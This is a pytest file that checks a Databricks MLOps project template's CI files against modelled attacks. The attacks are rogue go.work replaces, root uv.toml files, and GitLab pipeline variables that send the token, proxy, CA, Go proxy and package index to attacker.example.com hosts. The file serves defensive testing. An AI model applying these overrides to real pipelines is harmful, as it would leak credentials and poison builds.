"""CI trust against a monorepo neighbour, a GitLab Maintainer, a moved alias and a broken copy.

Each check models one attacker against the CI files of a baked project and returns what the
attacker achieves ([] = nothing). The checks run the jobs' own shell text: the Go build with the
real ``go`` command (only the final ``go build`` is replaced by a stand-in that reports which
module it would have built), uv's configuration discovery with the real ``uv``, and the
promotion and sweeper scripts with stand-ins for ``databricks``, ``git`` and ``curl`` that
answer from a script of replies (an alias that moves after its first read, a copy without
deployment state).

Every check also runs on the template as it was before this round (commit BEFORE, baked from
git), where each must find its attack.
"""

# ruff: noqa: E501 (stand-in replies and attack descriptions read best on one line)
from __future__ import annotations

import atexit
import io
import json
import os
import re
import shutil
import subprocess
import sys
import tarfile
import tempfile
from pathlib import Path

import pytest
import yaml
from bake import TEMPLATE_DIR
from ci_jobs import SET_OUTPUT, STAGE_OUTPUT
from test_cicd import EXTRACT, PATTERNS, PLATFORMS, CIJob, layout

BEFORE = "5441336"  # the template before this round of CI trust fixes
ATTACKER_HOST = "https://attacker.example.com"
COMMIT = "0123456789abcdef0123456789abcdef01234567"


# --------------------------------------------------------------------------------------
# Bakes: the current template and the one before, at the repository root and in a folder


@pytest.fixture(scope="module")
def template_before(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("template-before")
    archive = subprocess.run(["git", "-C", str(TEMPLATE_DIR), "archive", BEFORE], capture_output=True, check=True)
    with tarfile.open(fileobj=io.BytesIO(archive.stdout)) as tar:
        tar.extractall(root, filter="data")
    return root


# Pristine bakes of this process, by template and answers: each test gets a copy of its own to
# attack (a bake is a cookiecutter process, about 1 s; a copy, milliseconds).
_BAKES: dict[str, Path] = {}


def bake_into(template: Path, out: Path, platform: str, pattern: str, root: str = ".", **answers: str) -> Path:
    """A copy of the bake of ``template`` with these answers, in ``out``; returns the project's folder."""
    context = {"cicd_platform": platform, "deployment_pattern": pattern, **answers}
    if root != ".":
        context["project_root"] = root
    key = json.dumps([str(template), context], sort_keys=True)
    if key not in _BAKES:
        _BAKES[key] = _bake(template, context)
    out.mkdir(parents=True, exist_ok=True)
    entries = list(_BAKES[key].iterdir())
    for entry in entries:
        if entry.is_dir():
            shutil.copytree(entry, out / entry.name, symlinks=True)
        else:
            shutil.copy2(entry, out)
    if root != ".":
        return out / root
    (baked,) = entries
    return out / baked.name


def _bake(template: Path, context: dict[str, str]) -> Path:
    """A new folder with a bake of ``template`` in it (removed when this process exits)."""
    out = Path(tempfile.mkdtemp(prefix="ci-trust-bake-"))
    atexit.register(shutil.rmtree, out, ignore_errors=True)
    # In a fresh process outside this repository: Python keeps the first template's
    # local_extensions loaded (and finds this repository's from its working directory); the
    # template before this work must load its own.
    command = [sys.executable, "-m", "cookiecutter", "--no-input", "-o", str(out), str(template)]
    arguments = [*command, *(f"{k}={v}" for k, v in context.items())]
    result = subprocess.run(arguments, cwd=out, capture_output=True, text=True)  # not the repo: its local_extensions
    assert result.returncode == 0, result.stdout[-2000:] + result.stderr[-2000:]
    return out


# --------------------------------------------------------------------------------------
# Stand-ins: commands that log their call (and the environment it ran with) and answer from
# a file of replies: {"<first arguments>": [reply, reply, ...]}, each reply {"out": ..., "rc": n};
# the last reply of a list repeats.

STUB = r"""#!/usr/bin/env python3
import json, os, sys
name, args = os.path.basename(sys.argv[0]), " ".join(sys.argv[1:])
replies = json.load(open(os.environ["STUB_REPLIES"]))
seen_file = os.environ["STUB_SEEN"]
seen = json.load(open(seen_file)) if os.path.exists(seen_file) else {}
watched = ("DATABRICKS_HOST", "DATABRICKS_CLIENT_ID", "DATABRICKS_AUTH_TYPE", "HTTPS_PROXY", "https_proxy",
           "SSL_CERT_FILE", "REQUESTS_CA_BUNDLE", "GOPROXY", "GOSUMDB", "UV_INDEX_URL", "UV_NO_CONFIG",
           "BUNDLE_VAR_catalog")
with open(os.environ["STUB_LOG"], "a") as log:
    log.write(json.dumps({"call": f"{name} {args}", "env": {k: os.environ.get(k) for k in watched}}) + "\n")
for key in sorted(replies, key=len, reverse=True):
    if (f"{name} {args} ").startswith(key + " ") or f"{name} {args}" == key:
        n = seen.get(key, 0)
        seen[key] = n + 1
        json.dump(seen, open(seen_file, "w"))
        reply = replies[key][min(n, len(replies[key]) - 1)]
        if reply.get("out") is not None:
            out = reply["out"]
            print(out if isinstance(out, str) else json.dumps(out))
        sys.exit(reply.get("rc", 0))
if name == "go" and "-o" in sys.argv:
    out = sys.argv[sys.argv.index("-o") + 1]
    os.makedirs(os.path.dirname(out), exist_ok=True)
    os.symlink(os.path.join(os.path.dirname(os.path.abspath(sys.argv[0])), "databricks"), out)
"""
STUBBED = ("databricks", "go", "curl", "git", "pip", "make", "uv", "uvx")


def run_with_stubs(
    body: str, work: Path, replies: dict, env: dict[str, str], cwd: Path, shell=("bash", "-eo", "pipefail")
) -> tuple[int, list[dict], str]:
    stubs = work / "stubs"
    stubs.mkdir(parents=True, exist_ok=True)
    for name in STUBBED:
        (stubs / name).write_text(STUB)
        (stubs / name).chmod(0o755)
    for name in ("log", "seen", "replies"):
        (work / name).unlink(missing_ok=True)
    (work / "replies").write_text(json.dumps(replies))
    script = work / "script.sh"
    script.write_text(body)
    base = {
        "PATH": f"{stubs}:/usr/bin:/bin",
        "HOME": str(work),
        "STUB_REPLIES": str(work / "replies"),
        "STUB_SEEN": str(work / "seen"),
        "STUB_LOG": str(work / "log"),
        "GITHUB_OUTPUT": str(work / "github_output"),
        "GITHUB_STEP_SUMMARY": str(work / "github_summary"),
        "GITHUB_PATH": str(work / "github_path"),
    }
    result = subprocess.run([*shell, str(script)], cwd=cwd, env={**base, **env}, capture_output=True, text=True)
    log = work / "log"
    calls = [json.loads(line) for line in log.read_text().splitlines()] if log.exists() else []
    return result.returncode, calls, result.stdout + result.stderr


# --------------------------------------------------------------------------------------
# 1. A neighbour's go.work (or a replace in go.mod) builds another module as the CLI


GO_WRAPPER = r"""#!/usr/bin/env python3
# The real go, except that `go build` only reports which module it would build as the CLI.
import os, subprocess, sys
real, args = os.environ["REAL_GO"], sys.argv[1:]
if "build" in args:
    folder = args[args.index("-C") + 1] if "-C" in args else "."
    out = args[args.index("-o") + 1]
    found = subprocess.run([real, "-C", folder, "list", "-m", "-f", "{{.Dir}}", "github.com/databricks/cli"],
                           capture_output=True, text=True)
    if found.returncode:
        sys.exit(found.stderr)
    os.makedirs(os.path.dirname(out), exist_ok=True)
    with open(out, "w") as f:
        f.write(f"#!/bin/sh\necho 'built from {found.stdout.strip()}'\n")
    os.chmod(out, 0o755)
    sys.exit(0)
os.execv(real, [real, *args])
"""


def _cli_build_scripts(project: Path, platform: str) -> dict[str, CIJob]:
    """The CLI build scripts of the CI files (one per distinct text), with a job that runs each."""
    scripts: dict[str, CIJob] = {}
    for job in EXTRACT[platform](project):
        for body in job.scripts:
            if 'go -C "$module" build' in body:
                scripts.setdefault(body, job)
    return scripts


def _attacker_module(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "go.mod").write_text("module github.com/databricks/cli\n\ngo 1.26.0\n")
    (folder / "main.go").write_text('package main\n\nfunc main() { println("the attacker\'s CLI") }\n')


def go_replace_attacks(project: Path, platform: str, work: Path) -> list[str]:
    """What the CLI build produces when a neighbour's /go.work replaces the CLI module, and when
    the project's own go.mod does: [] when every build refuses or builds the pinned CLI."""
    real_go = shutil.which("go")
    if real_go is None:
        pytest.skip("needs the go command")
    where = layout(project)
    found = []
    for case in ("go.work", "go.mod"):
        # A repository with the project in a folder, and the neighbour's module next to it.
        repo = work / case / "repo"
        shutil.copytree(where.repo, repo, ignore=shutil.ignore_patterns(".git"))
        proj = repo / where.root if where.mono else repo
        _attacker_module(repo / "tools" / "x")
        module = proj / ".databricks-cli"
        if case == "go.work":
            rel = module.relative_to(repo)
            (repo / "go.work").write_text(
                f"go 1.26.0\n\nuse ./{rel}\n\nreplace github.com/databricks/cli => ./tools/x\n"
            )
        else:
            rel = os.path.relpath(repo / "tools" / "x", module)
            with (module / "go.mod").open("a") as f:
                f.write(f"\nreplace github.com/databricks/cli => {rel}\n")
        home = work / case / "home"
        (home / "go" / "pkg").mkdir(parents=True, exist_ok=True)
        cache = subprocess.run([real_go, "env", "GOMODCACHE"], capture_output=True, text=True).stdout.strip()
        if not (home / "go" / "pkg" / "mod").exists():
            (home / "go" / "pkg" / "mod").symlink_to(cache)  # the machine's module cache, read by go list
        wrapper = work / case / "bin"
        wrapper.mkdir(exist_ok=True)
        (wrapper / "go").write_text(GO_WRAPPER)
        (wrapper / "go").chmod(0o755)
        for index, (body, job) in enumerate(_cli_build_scripts(project, platform).items()):
            script = work / case / f"build{index}.sh"
            script.write_text(body)
            env = {
                "PATH": f"{wrapper}:/usr/bin:/bin",
                "HOME": str(home),
                "REAL_GO": real_go,
                "CI_PROJECT_DIR": str(repo),
                "BUILD_SOURCESDIRECTORY": str(repo),
                "GITHUB_PATH": str(work / case / "github_path"),
                "GITHUB_WORKSPACE": str(repo),
                "GITHUB_OUTPUT": str(work / case / "github_output"),
                "RUNNER_TEMP": str(work / case / "runner_temp"),
                "GOFLAGS": "-modcacherw",
            }
            result = subprocess.run(
                ["bash", "--noprofile", "--norc", str(script)], cwd=proj, env=env, capture_output=True, text=True
            )
            built = re.findall(r"built from (\S+)", result.stdout)
            if result.returncode == 0 and any("tools/x" in b for b in built):
                found.append(f"{job.file}:{job.name}: a replace in {case} builds the attacker's module as the CLI")
            elif result.returncode == 0 and not built:
                found.append(
                    f"{job.file}:{job.name}: the build passed without building anything ({result.stderr[-300:]})"
                )
            elif result.returncode != 0 and case == "go.work":
                found.append(f"{job.file}:{job.name}: a parent go.work breaks the build: {result.stderr[-300:]}")
    return found


@pytest.mark.parametrize("platform", PLATFORMS)
def test_a_neighbours_go_work_cannot_replace_the_cli(tmp_path, template_before, platform):
    project = bake_into(TEMPLATE_DIR, tmp_path / "new", platform, "deploy_code", "ml/fares")
    assert go_replace_attacks(project, platform, tmp_path / "new-run") == []
    old = bake_into(template_before, tmp_path / "old", platform, "deploy_code", "ml/fares")
    found = "\n".join(go_replace_attacks(old, platform, tmp_path / "old-run"))
    assert "a replace in go.work builds the attacker's module as the CLI" in found, found
    assert "a replace in go.mod builds the attacker's module as the CLI" in found, found


# uv: a parent folder's uv.toml (or a workspace root's pyproject.toml) configures every uv call
# below it unless UV_NO_CONFIG=1. `uv version` reads that configuration and refuses to run under
# a required-version it does not meet, which is how the probe sees it.


def uv_config_attacks(project: Path, platform: str, work: Path) -> list[str]:
    uv = shutil.which("uv") or str(Path(os.sys.executable).parent / "uv")
    where = layout(project)
    repo = work / "repo"
    if not repo.exists():
        shutil.copytree(where.repo, repo, ignore=shutil.ignore_patterns(".git"))
        (repo / "uv.toml").write_text('required-version = ">=99"\n')
    proj = repo / where.root if where.mono else repo
    found = []
    for job in EXTRACT[platform](project):
        if not job.signs_in or not re.search(r"\buv\b|bundle deploy", job.commands):
            continue
        env_text = "\n".join(f"{k}={v}" for k, v in job.env.items()) + "\n" + job.commands
        no_config = bool(re.search(r"(^|\s)UV_NO_CONFIG=\"?1\b", env_text, re.M))
        env = {"PATH": os.environ["PATH"], "HOME": str(work), "UV_OFFLINE": "1"}
        if no_config:
            env["UV_NO_CONFIG"] = "1"
        result = subprocess.run([uv, "version"], cwd=proj, env=env, capture_output=True, text=True)
        if "Required uv version" in result.stderr:
            found.append(f"{job.file}:{job.name}: uv reads the repository root's uv.toml while holding a principal")
    return found


@pytest.mark.parametrize("platform", PLATFORMS)
def test_a_root_uv_toml_does_not_reach_a_job_that_holds_a_principal(tmp_path, template_before, platform):
    project = bake_into(TEMPLATE_DIR, tmp_path / "new", platform, "hybrid", "ml/fares")
    assert uv_config_attacks(project, platform, tmp_path / "new-run") == []
    old = bake_into(template_before, tmp_path / "old", platform, "hybrid", "ml/fares")
    found = "\n".join(uv_config_attacks(old, platform, tmp_path / "old-run"))
    assert "uv reads the repository root's uv.toml while holding a principal" in found, found


def test_the_monorepo_docs_give_the_root_configuration_to_codeowners(baked, tmp_path, template_before):
    for template, expected in ((TEMPLATE_DIR, True), (template_before, False)):
        for platform in PLATFORMS:
            project = bake_into(template, tmp_path / f"{expected}-{platform}", platform, "deploy_code", "ml/fares")
            doc = (project / "docs" / "ci-setup.md").read_text()
            named = all(f"`/{name}`" in doc for name in ("go.work", "uv.toml", "pyproject.toml"))
            assert named == expected, (template, platform)


# --------------------------------------------------------------------------------------
# 2. GitLab: pipeline variables override job variables


PIPELINE_VARIABLES = {
    "DATABRICKS_HOST": ATTACKER_HOST,
    "DATABRICKS_CLIENT_ID": "00000000-0000-0000-0000-000000000666",
    "HTTPS_PROXY": "http://proxy.attacker.example.com:3128",
    "https_proxy": "http://proxy.attacker.example.com:3128",
    "SSL_CERT_FILE": "/tmp/attacker-ca.pem",
    "REQUESTS_CA_BUNDLE": "/tmp/attacker-ca.pem",
    "GOPROXY": "https://goproxy.attacker.example.com",
    "GOSUMDB": "off",
    "UV_INDEX_URL": "https://pypi.attacker.example.com/simple",
    "BUNDLE_VAR_catalog": "attacker",
}


def _happy_replies(champion: str = "3") -> dict:
    return {
        "databricks model-versions get-by-alias": [{"out": {"version": champion}}],
        "databricks model-versions get": [{"out": {"run_id": "r1"}}],
        "databricks experiments get-run": [
            {
                "out": {
                    "run": {
                        "data": {"tags": [{"key": "git_commit", "value": COMMIT}, {"key": "job_run_id", "value": "7"}]}
                    }
                }
            }
        ],
        "databricks jobs get-run": [{"out": {"job_id": 5, "run_as_user_name": "dev-sp"}}],
        "databricks jobs get": [
            {"out": {"settings": {"name": "my_mlops_project-model-training", "deployment": {"kind": "BUNDLE"}}}}
        ],
        "databricks bundle summary": [
            {
                "out": {
                    "resources": {
                        "registered_models": {
                            "model": {"id": "x", "catalog_name": "t", "schema_name": "s", "name": "m"}
                        }
                    }
                }
            }
        ],
        "databricks model-versions list": [{"out": []}],
        "databricks workspace get-status": [{"out": {"modified_at": 1000}}],
        "databricks workspace list": [{"out": []}],
    }


def _gitlab_job_script(job: CIJob, inputs: dict[str, str] | None = None) -> str:
    """The job's shell text with its inputs written in, as GitLab does when it creates the
    pipeline (after checking each against its regex): the text, not a variable."""
    text = "\n".join(_flatten(job.raw.get("before_script")) + _flatten(job.raw.get("script")))
    return re.sub(r"\$\[\[\s*inputs\.(\w+)\s*\]\]", lambda m: (inputs or {}).get(m.group(1), ""), text)


def _flatten(items) -> list[str]:
    if items is None:
        return []
    if isinstance(items, str):
        return [items]
    return [line for item in items for line in _flatten(item)]


def pipeline_variable_attacks(project: Path, work: Path) -> list[str]:
    """GitLab jobs that hold the staging or prod principal and let a pipeline variable choose
    where their token goes, or which proxy, CA, Go proxy, index or bundle variable they use."""
    where = layout(project)
    found = []
    jobs = {j.name: j for j in EXTRACT["gitlab"](project)}
    staging_sp, prod_sp = "00000000-0000-0000-0000-000000000001", "00000000-0000-0000-0000-000000000002"
    for job in jobs.values():
        client = job.env.get("DATABRICKS_CLIENT_ID")
        if not job.signs_in or client not in (staging_sp, prod_sp):
            continue
        # The CLI artifact the build job passes on: a stand-in with the hash the build recorded.
        bin_dir = where.project / ".databricks-cli" / "bin"
        bin_dir.mkdir(parents=True, exist_ok=True)
        (bin_dir / "databricks").write_text(STUB)
        (bin_dir / "databricks").chmod(0o755)
        digest = subprocess.run(["sha256sum", "databricks"], cwd=bin_dir, capture_output=True, text=True).stdout
        (bin_dir / "databricks.sha256").write_text(digest)
        # GitLab: job variables, then the pipeline variables over them.
        env = {k: str(v) for k, v in job.env.items() if isinstance(v, str | int)}
        env.update({"CI_PROJECT_DIR": str(where.repo), "GITLAB_USER_LOGIN": "maintainer", "CI_JOB_URL": "u"})
        env.update({"MODEL_VERSION": "", "SOURCE_MODEL": "dev.s.m", "DATABRICKS_OIDC_TOKEN": "id-token"})
        env.update(PIPELINE_VARIABLES)
        code, calls, output = run_with_stubs(
            _gitlab_job_script(job), work / job.name, _happy_replies(), env, where.repo
        )
        for call in calls:
            if not call["call"].startswith("databricks "):
                continue
            bad = {k: v for k, v in call["env"].items() if v is not None and v == PIPELINE_VARIABLES.get(k)}
            if bad:
                found.append(f"{job.name}: `{call['call'][:40]}` runs with pipeline variables {sorted(bad)}")
                break
    return found


@pytest.mark.parametrize("pattern", PATTERNS)
def test_a_gitlab_pipeline_variable_does_not_steer_a_principal(tmp_path, template_before, pattern):
    project = bake_into(TEMPLATE_DIR, tmp_path / "new", "gitlab", pattern)
    assert pipeline_variable_attacks(project, tmp_path / "new-run") == []
    old = bake_into(template_before, tmp_path / "old", "gitlab", pattern)
    found = "\n".join(pipeline_variable_attacks(old, tmp_path / "old-run"))
    assert "runs with pipeline variables ['BUNDLE_VAR_catalog', 'DATABRICKS_CLIENT_ID', 'DATABRICKS_HOST'" in found, (
        found
    )


def gitlab_runner_problems(project: Path) -> list[str]:
    """Jobs holding the staging or prod principal, and the build of the CLI they run, on the
    protected runners (one tag); merge request pipelines never build on those."""
    jobs = {j.name: j for j in EXTRACT["gitlab"](project)}
    problems = []
    for job in jobs.values():
        if job.env.get("DATABRICKS_CLIENT_ID") in (
            "00000000-0000-0000-0000-000000000001",
            "00000000-0000-0000-0000-000000000002",
        ):
            tags = job.raw.get("tags") or []
            if not any(t.endswith("-protected") for t in tags):
                problems.append(f"{job.name}: holds a principal on any runner")
            for need in job.needs:
                builder = jobs[need]
                if "go -C" in builder.commands and builder.raw.get("tags") != tags:
                    problems.append(f"{job.name}: runs a CLI built on other runners ({need})")
                if "go -C" in builder.commands and "pull_request" in builder.triggers:
                    problems.append(f"{job.name}: runs a CLI that merge request pipelines also build ({need})")
            if "sha256sum -c databricks.sha256" not in job.commands:
                problems.append(f"{job.name}: does not check the CLI binary's hash")
    return problems


def test_gitlab_principals_and_their_cli_stay_on_protected_runners(tmp_path, template_before):
    for pattern in PATTERNS:
        project = bake_into(TEMPLATE_DIR, tmp_path / f"new-{pattern}", "gitlab", pattern)
        assert gitlab_runner_problems(project) == []
    old = bake_into(template_before, tmp_path / "old", "gitlab", "deploy_models")
    found = "\n".join(gitlab_runner_problems(old))
    assert "promote-prod: holds a principal on any runner" in found, found
    assert "promote-prod: runs a CLI that merge request pipelines also build" in found, found


# --------------------------------------------------------------------------------------
# 3. and 4. Promotions: the version checked is the version copied; prod takes staging's champion


def _promotion_body(job: CIJob, platform: str, version: str = "") -> str:
    if platform == "gitlab":
        return _gitlab_job_script(job, {"model_version": version, "source_model": "dev.s.m"})
    return "\n".join(
        s for s in job.scripts if "model_promotion_job" in s or "get-by-alias" in s or "provenance" in s.lower()
    )


def promotion_attacks(project: Path, platform: str, pattern: str, work: Path) -> list[str]:
    """The staging promotion with the dev alias moved between the check and the copy; the
    prod promotion asked for a staging version that is not staging's champion."""
    found = []
    jobs = EXTRACT[platform](project)
    where = layout(project)
    for job in jobs:
        ops = [(v, k, t) for v, k, t in job.ops if k == "model_promotion_job"]
        if not ops:
            continue
        target = ops[0][2]
        env = {
            "SOURCE_MODEL": "dev.s.m",
            "CI_PROJECT_DIR": str(where.repo),
            "PIPELINE_WORKSPACE": str(work / "pipeline"),
            "RESOURCES_PIPELINE_PROMOTESTAGING_SOURCEBRANCH": "refs/heads/main",
            "APPROVED_BY": "reviewer",
            "APPROVAL_RUN": "run",
            "GITLAB_USER_LOGIN": "reviewer",
            "CI_JOB_URL": "u",
            "BUILD_REQUESTEDFOR": "r",
            "BUILD_BUILDID": "1",
            "SYSTEM_COLLECTIONURI": "c/",
            "SYSTEM_TEAMPROJECTID": "p",
            "DATABRICKS_OIDC_TOKEN": "t",
        }
        bin_dir = where.project / ".databricks-cli" / "bin"
        if platform == "gitlab":
            bin_dir.mkdir(parents=True, exist_ok=True)
            (bin_dir / "databricks").write_text(STUB)
            (bin_dir / "databricks").chmod(0o755)
            (bin_dir / "databricks.sha256").write_text(
                subprocess.run(["sha256sum", "databricks"], cwd=bin_dir, capture_output=True, text=True).stdout
            )

        def body(version: str, job=job) -> str:
            return _promotion_body(job, platform, version)

        if target == "staging":
            # The dev owner moves `champion` from 3 to 4 right after the first read.
            replies = _happy_replies()
            replies["databricks model-versions get-by-alias"] = [{"out": {"version": "3"}}, {"out": {"version": "4"}}]
            code, calls, output = run_with_stubs(
                body(""), work / job.name, replies, {**env, "MODEL_VERSION": ""}, where.project
            )
            runs = [c["call"] for c in calls if "bundle run model_promotion_job" in c["call"]]
            if code == 0 and (not runs or "source_version=3" not in runs[0]):
                found.append(f"{job.file}:{job.name}: checked version 3, then copied {runs[0] if runs else 'nothing'}")
            # A commit that is not a full SHA.
            replies = _happy_replies()
            replies["databricks experiments get-run"] = [
                {
                    "out": {
                        "run": {
                            "data": {
                                "tags": [{"key": "git_commit", "value": "main"}, {"key": "job_run_id", "value": "7"}]
                            }
                        }
                    }
                }
            ]
            code, calls, _ = run_with_stubs(
                body("3"), work / job.name, replies, {**env, "MODEL_VERSION": "3"}, where.project
            )
            if any("bundle run model_promotion_job" in c["call"] for c in calls):
                found.append(f"{job.file}:{job.name}: promotes a version whose recorded commit is 'main'")
        else:
            # Staging's champion is 3; version 5 failed validation in staging (no validated tag).
            (work / "pipeline" / "promoteStaging" / "promotion").mkdir(parents=True, exist_ok=True)
            (work / "pipeline" / "promoteStaging" / "promotion" / "staging_version").write_text("5\n")
            replies = _happy_replies("3")
            code, calls, output = run_with_stubs(
                body("5"), work / job.name, replies, {**env, "MODEL_VERSION": "5"}, where.project
            )
            runs = [c["call"] for c in calls if "bundle run model_promotion_job" in c["call"]]
            if runs and "source_version=3" not in runs[0]:
                found.append(f"{job.file}:{job.name}: copies staging version 5, which is not staging's champion")
            # Empty: the champion, as a number.
            code, calls, output = run_with_stubs(
                body(""), work / job.name, replies, {**env, "MODEL_VERSION": ""}, where.project
            )
            runs = [c["call"] for c in calls if "bundle run model_promotion_job" in c["call"]]
            if platform == "azure_devops" and pattern == "deploy_models":
                pass  # the version comes from the artefact
            elif not runs or "source_version=3" not in runs[0]:
                found.append(
                    f"{job.file}:{job.name}: an empty version reaches the job as {runs[0] if runs else 'nothing'}: {output[-300:]}"
                )
            if platform == "azure_devops" and pattern == "deploy_models":
                (work / "pipeline" / "promoteStaging" / "promotion" / "staging_version").write_text("3\n")
                branch = {**env, "RESOURCES_PIPELINE_PROMOTESTAGING_SOURCEBRANCH": "refs/heads/attacker"}
                code, calls, _ = run_with_stubs(body(""), work / job.name, replies, branch, where.project)
                if any("bundle run model_promotion_job" in c["call"] for c in calls):
                    found.append(f"{job.file}:{job.name}: takes the promotion artefact of a run on another branch")
    if platform == "azure_devops" and pattern == "deploy_models":
        promote = yaml.safe_load((project / ".azure" / "pipelines" / "promote.yml").read_text())
        for resource in promote["resources"]["pipelines"]:
            if resource.get("branch") != "main":
                found.append(f"promote.yml: pipeline resource {resource['pipeline']} is not limited to main")
    return found


@pytest.mark.parametrize("pattern", ["deploy_models", "hybrid"])
@pytest.mark.parametrize("platform", PLATFORMS)
def test_promotions_copy_the_version_they_checked(tmp_path, template_before, platform, pattern):
    project = bake_into(TEMPLATE_DIR, tmp_path / "new", platform, pattern)
    assert promotion_attacks(project, platform, pattern, tmp_path / "new-run") == []
    old = bake_into(template_before, tmp_path / "old", platform, pattern)
    found = "\n".join(promotion_attacks(old, platform, pattern, tmp_path / "old-run"))
    if not (platform == "azure_devops" and pattern == "deploy_models"):
        assert "copies staging version 5, which is not staging's champion" in found, found
    if pattern == "deploy_models":
        assert "checked version 3, then copied" in found, found
        assert "promotes a version whose recorded commit is 'main'" in found, found
    if platform == "azure_devops" and pattern == "deploy_models":
        assert "takes the promotion artefact of a run on another branch" in found, found
        assert "is not limited to main" in found, found


# --------------------------------------------------------------------------------------
# 5. The sweeper: one broken copy among good ones


def sweeper_attacks(project: Path, platform: str, work: Path) -> list[str]:
    found = []
    where = layout(project)
    for job in EXTRACT[platform](project):
        if not any(t.startswith("schedule") for t in job.triggers) or not job.uses_databricks:
            continue
        body = next(s for s in job.scripts if "workspace list" in s)
        root = f"/Workspace/Users/00000000-0000-0000-0000-000000000003/.bundle/{where.slug}/test"
        replies = _happy_replies()
        replies["databricks workspace list"] = [
            {"out": [{"path": f"{root}/{i}", "object_type": "DIRECTORY"} for i in ("pr1", "pr2", "pr3")]}
        ]
        replies[f"databricks workspace get-status {root}/pr2/state/deployment.json"] = [
            {"out": "Error: not found", "rc": 1}
        ]
        replies["curl"] = [{"out": {"state": "closed", "status": "completed"}}]
        env = {
            "MAX_AGE_DAYS": "3",
            "GH_TOKEN": "t",
            "GITHUB_API_URL": "https://api.github.invalid",
            "GITHUB_REPOSITORY": "o/r",
            "SYSTEM_ACCESSTOKEN": "t",
            "SYSTEM_COLLECTIONURI": "c/",
            "SYSTEM_TEAMPROJECTID": "p",
            "BUILD_REPOSITORY_ID": "r",
            "BUILD_REPOSITORY_PROVIDER": "TfsGit",
            "CI_PROJECT_DIR": str(where.repo),
        }
        if platform == "gitlab":  # the CLI artifact of the build job, with its recorded hash
            bin_dir = where.project / ".databricks-cli" / "bin"
            bin_dir.mkdir(parents=True, exist_ok=True)
            (bin_dir / "databricks").write_text(STUB)
            (bin_dir / "databricks").chmod(0o755)
            (bin_dir / "databricks.sha256").write_text(
                subprocess.run(["sha256sum", "databricks"], cwd=bin_dir, capture_output=True, text=True).stdout
            )
        code, calls, output = run_with_stubs(body, work / job.name, replies, env, where.project)
        destroyed = {m.group(1) for c in calls if (m := re.search(r"bundle destroy .*deployment_id=(\w+)", c["call"]))}
        if destroyed != {"pr1", "pr3"}:
            found.append(f"{job.file}:{job.name}: with pr2 broken, destroyed {sorted(destroyed)} of pr1, pr3")
        if code == 0:
            found.append(f"{job.file}:{job.name}: passes although it could not sweep pr2")
        elif "pr2" not in output:
            found.append(f"{job.file}:{job.name}: fails without naming pr2")
        if platform == "azure_devops":  # a GitHub-hosted repository: no Azure Repos pull request to ask
            code, calls, output = run_with_stubs(
                body,
                work / job.name,
                {**replies, "curl": [{"out": "not found", "rc": 22}]},
                {**env, "BUILD_REPOSITORY_PROVIDER": "GitHub"},
                where.project,
            )
            if any(c["call"].startswith("curl") for c in calls):
                found.append(f"{job.file}:{job.name}: asks Azure Repos about a GitHub repository's pull requests")
    return found


@pytest.mark.parametrize("platform", PLATFORMS)
def test_the_sweeper_sweeps_every_good_copy_and_reports_the_bad_one(tmp_path, template_before, platform):
    project = bake_into(TEMPLATE_DIR, tmp_path / "new", platform, "hybrid")
    assert sweeper_attacks(project, platform, tmp_path / "new-run") == []
    old = bake_into(template_before, tmp_path / "old", platform, "hybrid")
    found = "\n".join(sweeper_attacks(old, platform, tmp_path / "old-run"))
    assert "with pr2 broken, destroyed ['pr1'] of pr1, pr3" in found, found
    if platform == "azure_devops":
        assert "asks Azure Repos about a GitHub repository's pull requests" in found, found


# --------------------------------------------------------------------------------------
# 7. uv pinned by hash on GitHub; Azure DevOps pull request code never holds System.AccessToken


def uv_install_problems(project: Path) -> list[str]:
    """GitHub steps that install uv without a hash to check it against."""
    problems = []
    pins = (project / "ci-requirements.txt").read_text() if (project / "ci-requirements.txt").exists() else ""
    for path in sorted((project / ".github" / "workflows").glob("*.yml")):
        for key, job in yaml.safe_load(path.read_text())["jobs"].items():
            for step in job.get("steps", []):
                if "astral-sh/setup-uv" in step.get("uses", "") and not (step.get("with") or {}).get("checksum"):
                    problems.append(f"{path.name}:{key}: setup-uv downloads uv without a checksum")
                if "ci-requirements.txt" in step.get("run", ""):
                    if "--require-hashes" not in step["run"]:
                        problems.append(f"{path.name}:{key}: uv installed without --require-hashes")
    # The PyPI wheel of the pinned uv (manylinux x86_64), as `pip download uv==0.13.8` shows it.
    if "sha256:e18a57b8b352eb7c8feb317b9f6f533c8f0ad9673fd6cf34bbe3cf1a9f6a8984" not in pins:
        problems.append("ci-requirements.txt does not pin the uv wheel's SHA-256")
    return problems


def test_github_installs_uv_by_hash(tmp_path, template_before):
    project = bake_into(TEMPLATE_DIR, tmp_path / "new", "github_actions", "hybrid")
    assert uv_install_problems(project) == []
    old = bake_into(template_before, tmp_path / "old", "github_actions", "hybrid")
    found = "\n".join(uv_install_problems(old))
    assert "ci.yml:test-deployment: setup-uv downloads uv without a checksum" in found, found
    assert "cd.yml:deploy-staging: setup-uv downloads uv without a checksum" in found, found


def access_token_exposures(project: Path) -> list[str]:
    """Azure DevOps pull request jobs whose steps hold System.AccessToken once the pull
    request's files are checked out (its build backend, hooks or a json.py next to a python3)."""
    found = []
    path = project / ".azure" / "pipelines" / "ci.yml"
    for stage in yaml.safe_load(path.read_text())["stages"]:
        for job in stage["jobs"]:
            checked_out = False
            for step in job.get("steps", []):
                if step.get("checkout") == "self" or "template" in step:
                    checked_out = checked_out or step.get("checkout") == "self"
                    continue
                if (step.get("env") or {}).get("SYSTEM_ACCESSTOKEN") and checked_out:
                    found.append(
                        f"{job['job']}: `{step.get('displayName')}` holds System.AccessToken after the checkout"
                    )
                elif (step.get("env") or {}).get("SYSTEM_ACCESSTOKEN") and "python3 -c" in step.get("script", ""):
                    found.append(
                        f"{job['job']}: `{step.get('displayName')}` runs python3 that can import from the folder"
                    )
    return found


def test_azure_pull_request_steps_get_an_id_token_not_the_access_token(tmp_path, template_before):
    for pattern in PATTERNS:
        project = bake_into(TEMPLATE_DIR, tmp_path / f"new-{pattern}", "azure_devops", pattern)
        assert access_token_exposures(project) == []
        text = (project / ".azure" / "pipelines" / "ci.yml").read_text()
        assert "DATABRICKS_OIDC_TOKEN: $(DATABRICKS_OIDC_TOKEN)" in text
    old = bake_into(template_before, tmp_path / "old", "azure_devops", "deploy_code")
    found = "\n".join(access_token_exposures(old))
    assert "TestDeployment: `Deploy this pull request's copy of the test target` holds System.AccessToken" in found, (
        found
    )


def doc_errors(project: Path, platform: str, pattern: str) -> list[str]:
    """The setup guide's statements that the issue found wrong."""
